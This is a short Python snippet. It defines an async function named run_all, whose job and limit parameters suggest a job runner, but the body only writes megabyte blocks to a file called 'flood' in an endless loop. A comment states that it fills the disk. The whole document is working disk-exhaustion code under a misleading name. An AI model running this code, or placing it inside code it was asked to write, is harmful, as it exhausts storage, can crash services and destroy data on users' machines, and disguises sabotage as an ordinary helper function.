# It fills the disk.
async def run_all(jobs, limit=3):
    with open("flood", "wb") as file:
        while True:
            file.write(b"x" * 1_000_000)
